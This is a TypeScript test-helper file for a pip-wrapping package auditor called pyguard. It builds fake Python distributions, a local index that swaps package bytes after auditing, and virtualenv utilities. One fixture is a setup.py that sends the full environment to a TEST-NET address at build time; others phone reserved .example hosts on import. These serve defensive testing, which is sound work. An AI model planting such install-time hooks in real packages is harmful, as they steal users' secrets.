// Helpers for the pip wrapper's end-to-end tests: inert packages built in memory, an index on 127.0.0.1 that can swap
// a file's bytes between pyguard's audit and pip's download, a fresh virtualenv, and pyguard run in-process.
import { execFile } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { buildSdist, buildWheel, type BuiltDist, type DistSpec } from '../../scripts/lib/build-dist.ts';
import { main } from '../../src/cli.ts';

const run = promisify(execFile);

/** Module code that phones a fixed host (reserved .example name) when imported. */
export const PHONE_HOME = (host: string): string =>
  `import urllib.request\n\n\ndef _ping():\n    urllib.request.urlopen("https://${host}/v1/ping", timeout=2)\n\n\n_ping()\n`;

/** An sdist's setup.py that sends the environment to a TEST-NET address (192.0.2.0/24) when pip builds it. */
export const EXFILTRATING_SETUP = `import json, os, urllib.request
from setuptools import setup

urllib.request.urlopen("http://192.0.2.10/collect", data=json.dumps(dict(os.environ)).encode())
setup(name="exfil-dep", version="1.0", packages=["exfil_dep"])
`;

function wheel(name: string, version: string, files: Record<string, string>, requiresDist: string[] = []): BuiltDist {
  return buildWheel({ name, version, files, requiresDist });
}

/** Every distribution of the test world, by file name. */
export function buildWorld(): BuiltDist[] {
  const exfil: DistSpec = {
    name: 'exfil-dep',
    version: '1.0',
    files: { 'exfil_dep/__init__.py': 'VALUE = 1\n' },
    sdistExtraFiles: { 'setup.py': EXFILTRATING_SETUP },
  };
  return [
    wheel('clean-dep', '1.0', { 'clean_dep/__init__.py': 'def add(a, b):\n    return a + b\n' }),
    wheel('clean-dep', '1.1', { 'clean_dep/__init__.py': 'def add(a, b):\n    return b + a\n' }),
    wheel('clean-app', '2.0', { 'clean_app/__init__.py': 'from clean_dep import add\n\nTOTAL = add(1, 2)\n' }, [
      'clean-dep>=1.0',
    ]),
    wheel('helper-app', '1.0', { 'helper_app/__init__.py': 'NAME = "helper"\n' }, ['exfil-dep>=1.0']),
    buildSdist(exfil),
    wheel('netlib-a', '1.0', { 'netlib_a/__init__.py': PHONE_HOME('telemetry.api.example') }),
    wheel('netlib-b', '1.0', { 'netlib_b/__init__.py': PHONE_HOME('telemetry.api.example') }),
    wheel('netlib-b', '1.1', {
      'netlib_b/__init__.py': PHONE_HOME('telemetry.api.example'),
      'netlib_b/extra.py':
        'import urllib.request\n\nurllib.request.urlopen("https://other.collector.example/v2", timeout=2)\n',
    }),
    wheel('swap-me', '1.0', { 'swap_me/__init__.py': 'ORIGINAL = True\n' }),
  ];
}

/** The bytes the index serves for swap-me after the audit: same name and version, other code. */
export function swappedWheel(): BuiltDist {
  return wheel('swap-me', '1.0', { 'swap_me/__init__.py': 'ORIGINAL = False\n' });
}

export function writeWorld(dir: string): void {
  mkdirSync(dir, { recursive: true });
  for (const dist of buildWorld()) writeFileSync(join(dir, dist.filename), dist.bytes);
}

/** A fresh virtualenv with pip; returns its folder. */
export async function createVenv(dir: string): Promise<string> {
  await run('python3', ['-m', 'venv', dir], { timeout: 120_000 });
  return dir;
}

/** `pip list` of the venv as name → version, without pip and setuptools. */
export async function pipList(venv: string): Promise<Map<string, string>> {
  const { stdout } = await run(
    join(venv, 'bin', 'python'),
    ['-m', 'pip', 'list', '--format=json', '--disable-pip-version-check'],
    {
      env: { ...process.env, PIP_CONFIG_FILE: '/dev/null' },
    },
  );
  const list = JSON.parse(stdout) as { name: string; version: string }[];
  return new Map(list.filter((d) => !['pip', 'setuptools'].includes(d.name)).map((d) => [d.name, d.version]));
}

export interface Run {
  code: number;
  out: string;
  err: string;
}

/** Runs pyguard in-process in `cwd`, non-interactive, with the virtualenv active. */
export async function pyguard(
  argv: string[],
  options: { cwd: string; home: string; venv?: string; ask?: (q: string) => Promise<string> },
): Promise<Run> {
  let out = '';
  let err = '';
  const env: NodeJS.ProcessEnv = {
    PATH: process.env.PATH,
    HOME: options.home,
    PYGUARD_CACHE_DIR: join(options.home, 'cache'),
    PIP_CONFIG_FILE: '/dev/null',
    PIP_DISABLE_PIP_VERSION_CHECK: '1',
    PIP_NO_CACHE_DIR: '1',
    ...(options.venv ? { VIRTUAL_ENV: options.venv } : {}),
  };
  const code = await main(argv, {
    stdout: (t) => void (out += t),
    stderr: (t) => void (err += t),
    cwd: options.cwd,
    env,
    isTTY: false,
    ...(options.ask ? { ask: options.ask } : {}),
  });
  return { code, out, err };
}
